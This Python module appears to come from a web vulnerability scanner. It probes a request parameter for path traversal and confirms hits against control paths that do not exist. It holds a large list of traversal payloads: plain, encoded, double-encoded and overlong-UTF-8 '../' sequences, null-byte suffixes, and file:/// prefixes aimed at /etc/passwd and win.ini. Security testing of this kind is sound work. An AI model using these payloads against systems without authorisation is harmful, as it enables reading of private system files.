"""Path traversal: a value makes the application give a file of the system.

A page that shows such a file's lines for other reasons shows them, too, when the path leads nowhere: to a file that
does not exist, or to one of that name in a directory that does not exist.
"""

import html
import re
import secrets
from collections.abc import Iterator
from dataclasses import dataclass

from .page import Page
from .target import Probe

_BATCH = 10
_DEPTHS = (1, 2, 3, 4, 5, 6, 8, 12)
_DEEP = 8


@dataclass(frozen=True)
class _File:
    path: str
    content: re.Pattern[str]


_PASSWD = _File("etc/passwd", re.compile(r"root:[^:\s]{0,200}:0:0:[^:\n]*:[^:\n]*:|cm9vdDp4OjA6MDpyb290"))
_WIN_INI = _File(
    "windows/win.ini",
    re.compile(r"for 16-bit app support|\[fonts\]\s*(?:\\r)?(?:\\n)?\s*\[extensions\]", re.IGNORECASE),
)


@dataclass(frozen=True)
class _Way:
    """What stands before and after the file's path, and how its slashes are written."""

    before: str
    after: str = ""
    slash: str = "/"

    def to(self, path: str) -> str:
        return f"{self.before}{path.replace('/', self.slash)}{self.after}"


def _unix_ways(value: str) -> Iterator[_Way]:
    up = "../" * _DEEP
    yield _Way("/")
    yield from (_Way("../" * depth) for depth in _DEPTHS)
    yield _Way("/" + up)
    yield _Way("./" + up)
    yield from (_Way(step * _DEEP) for step in ("....//", "..././", "....\\/", "..//", "..;/", ".././"))
    yield from (_Way(step * _DEEP, slash=step[-3:]) for step in ("..%2f", "%2e%2e%2f"))
    yield from (_Way(step * _DEEP, slash="%252f") for step in ("..%252f", "%252e%252e%252f"))
    yield _Way("..%c0%af" * _DEEP, slash="%c0%af")
    yield _Way("%2f", slash="%2f")
    yield _Way("..\\" * _DEEP, slash="\\")
    yield _Way("file:///")
    directory, _, name = value.rpartition("/")
    for prefix in dict.fromkeys(filter(None, (directory, value))):
        yield from (_Way(f"{prefix}/{step * _DEEP}") for step in ("../", "....//", "..%2f"))
    extension = re.search(r"\.\w{1,8}$", name)
    for suffix in dict.fromkeys(("\0", f"\0{extension[0]}" if extension else "\0.txt", "%00", "/.", "?", "#")):
        yield _Way(up, suffix)
        yield _Way("/", suffix)
        if directory:
            yield _Way(f"{directory}/{up}", suffix)


def _windows_ways(value: str) -> Iterator[_Way]:
    directory = value.replace("\\", "/").rpartition("/")[0]
    for slash in ("\\", "/"):
        yield from (_Way(f"..{slash}" * depth, slash=slash) for depth in (3, 5, _DEEP))
        yield _Way(f"C:{slash}", slash=slash)
        yield _Way(f"....{slash * 2}" * _DEEP, slash=slash)
        yield _Way(f"..{slash}" * _DEEP, "\0.txt", slash)
        if directory:
            yield _Way(f"{directory}{slash}" + f"..{slash}" * _DEEP, slash=slash)
    yield _Way("..%5c" * _DEEP, slash="%5c")


async def find_ptrav(probe: Probe) -> str | None:
    """Give the value that fetches a system's file, or None. Raises TargetError."""
    value = probe.point.value
    tries = [(_PASSWD, way) for way in _unix_ways(value)] + [(_WIN_INI, way) for way in _windows_ways(value)]
    usual: Page | None = None
    for start in range(0, len(tries), _BATCH):
        batch = tries[start : start + _BATCH]
        pages = await probe.send_all([way.to(file.path) for file, way in batch])
        for (file, way), page in zip(batch, pages, strict=True):
            if not _shows(page, file):
                continue
            usual = usual or await probe.send(value)
            if not _shows(usual, file) and await _is_proved(probe, file, way):
                return way.to(file.path)
    return None


async def _is_proved(probe: Probe, file: _File, way: _Way) -> bool:
    nowhere = f"ff{secrets.token_hex(3)}"
    directory, _, name = file.path.rpartition("/")
    again, *controls = await probe.send_all(
        [
            way.to(path)
            for path in (file.path, f"{directory}/{nowhere}", f"{nowhere}/{file.path}", f"{directory}/{nowhere}/{name}")
        ]
    )
    return _shows(again, file) and not any(_shows(page, file) for page in controls)


def _shows(page: Page, file: _File) -> bool:
    return file.content.search(page.text) is not None or file.content.search(html.unescape(page.text)) is not None
